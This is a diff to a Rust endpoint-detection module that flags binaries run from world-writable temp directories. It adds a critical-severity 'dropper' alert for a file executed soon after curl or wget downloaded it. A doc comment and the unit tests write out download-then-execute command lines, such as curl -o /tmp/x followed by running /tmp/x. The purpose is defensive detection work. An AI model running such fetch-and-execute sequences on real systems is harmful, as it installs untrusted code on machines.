@@ -3,9 +3,14 @@
 //! because any user can write there and nothing is installed.
 //!
 //! ATT&CK: T1059 (Command and Scripting Interpreter) for temp-dir execution, T1620 (Reflective
-//! Code Loading) for fileless execution.
+//! Code Loading) for fileless execution, T1105 (Ingress Tool Transfer) when a downloader named
+//! the very file shortly before it ran (`curl -o /tmp/x …; /tmp/x`): a dropper, critical.
 
-use super::shell::is_interpreter;
+use std::collections::VecDeque;
+
+use chrono::{DateTime, TimeDelta, Utc};
+
+use super::shell::{is_downloader, is_interpreter};
 use super::{Detector, evidence};
 use crate::config::ExecFromTmpConfig;
 use crate::event::{Event, EventKind, Exec};
@@ -14,7 +19,15 @@ use crate::proctable::{ProcessTable, basename};
 
 pub struct ExecFromTmp {
     cfg: ExecFromTmpConfig,
+    /// Recent downloader execs (time, argv, evidence): a temp file one of them named and that
+    /// runs within [`DOWNLOAD_WINDOW_SECS`] was downloaded and executed.
+    downloads: VecDeque<(DateTime<Utc>, Vec<String>, serde_json::Value)>,
 }
+
+/// How long a downloader's command line is remembered.
+const DOWNLOAD_WINDOW_SECS: i64 = 120;
+/// At most this many downloader command lines are remembered.
+const MAX_DOWNLOADS: usize = 256;
 
 /// Why an exec was judged to come from a suspicious place.
 #[derive(Debug, PartialEq, Eq)]
@@ -29,7 +42,41 @@ enum Origin<'a> {
 
 impl ExecFromTmp {
     pub fn new(cfg: ExecFromTmpConfig) -> Self {
-        Self { cfg }
+        Self {
+            cfg,
+            downloads: VecDeque::new(),
+        }
+    }
+
+    /// Remember a downloader's command line; forget those past the window.
+    fn note_download(&mut self, ev: &Event, e: &Exec) {
+        let oldest = ev.ts - TimeDelta::seconds(DOWNLOAD_WINDOW_SECS);
+        while self.downloads.front().is_some_and(|d| d.0 < oldest) {
+            self.downloads.pop_front();
+        }
+        if is_downloader(basename(&e.filename)) {
+            if self.downloads.len() == MAX_DOWNLOADS {
+                self.downloads.pop_front();
+            }
+            self.downloads
+                .push_back((ev.ts, e.argv.clone(), evidence(ev)));
+        }
+    }
+
+    /// The evidence of a recent download that named `path` (as `-o PATH`, `-OPATH`, `PATH`).
+    fn downloaded(&self, path: &str) -> Option<&serde_json::Value> {
+        self.downloads
+            .iter()
+            .rev()
+            .find(|(_, argv, _)| {
+                argv.iter().skip(1).any(|a| {
+                    a == path
+                        || a.strip_prefix("-o").or_else(|| a.strip_prefix("-O")) == Some(path)
+                        || a.strip_prefix("--output=") == Some(path)
+                        || a.strip_prefix("--output-document=") == Some(path)
+                })
+            })
+            .map(|d| &d.2)
     }
 
     fn in_temp_dir(&self, path: &str) -> bool {
@@ -88,13 +135,25 @@ impl Detector for ExecFromTmp {
         let EventKind::Exec(e) = &ev.kind else {
             return;
         };
+        self.note_download(ev, e);
         let Some(origin) = self.classify(e) else {
             return;
         };
         if self.cfg.allow.iter().any(|a| a == &e.filename) {
             return;
         }
+        let mut evidence_list = vec![evidence(ev)];
         let (technique, severity, summary) = match origin {
+            Origin::TempBinary(p) if self.downloaded(p).is_some() => {
+                evidence_list.extend(self.downloaded(p).cloned());
+                (
+                    "T1105",
+                    Severity::Critical,
+                    format!(
+                        "executed {p} right after downloading it to a world-writable directory"
+                    ),
+                )
+            }
             Origin::TempBinary(p) => (
                 "T1059",
                 Severity::Medium,
@@ -122,7 +181,7 @@ impl Detector for ExecFromTmp {
                 exe: e.filename.clone(),
             },
             summary,
-            evidence: vec![evidence(ev)],
+            evidence: evidence_list,
             author: None,
             stage: None,
         });
@@ -176,5 +235,51 @@ mod tests {
         assert_eq!(d.classify(&exec("/usr/bin/cat", &["cat", "/tmp/a"])), None);
         assert_eq!(d.classify(&exec("/proc/self/exe", &["x"])), None);
         assert_eq!(d.classify(&exec("/dev/fd/", &["x"])), None);
+    }
+
+    #[test]
+    fn a_file_a_downloader_just_named_is_a_critical_dropper_and_only_then() {
+        use crate::event::Source;
+        let at = |secs: i64| DateTime::from_timestamp(1_800_000_000 + secs, 0).expect("ts");
+        let run = |gap: i64, dl: &[&str]| {
+            let mut d = ExecFromTmp::new(ExecFromTmpConfig::default());
+            let procs = ProcessTable::with_capacity(16);
+            let mut out = Vec::new();
+            let curl = Event::new(
+                at(0),
+                Source::Ebpf,
+                EventKind::Exec(exec("/usr/bin/curl", dl)),
+            );
+            d.on_event(&curl, &procs, &mut out);
+            let x = Event::new(
+                at(gap),
+                Source::Ebpf,
+                EventKind::Exec(exec("/tmp/x", &["x"])),
+            );
+            d.on_event(&x, &procs, &mut out);
+            assert_eq!(out.len(), 1);
+            (
+                out[0].severity,
+                out[0].technique.clone(),
+                out[0].evidence.len(),
+            )
+        };
+        assert_eq!(
+            run(1, &["curl", "-o", "/tmp/x", "http://h/p"]),
+            (Severity::Critical, "T1105".into(), 2)
+        );
+        assert_eq!(
+            run(1, &["wget", "-O/tmp/x", "http://h/p"]).0,
+            Severity::Critical
+        );
+        // Too late, or another file: an ordinary temp-dir exec.
+        assert_eq!(
+            run(600, &["curl", "-o", "/tmp/x", "http://h/p"]).0,
+            Severity::Medium
+        );
+        assert_eq!(
+            run(1, &["curl", "-o", "/tmp/y", "http://h/p"]).0,
+            Severity::Medium
+        );
     }
 }
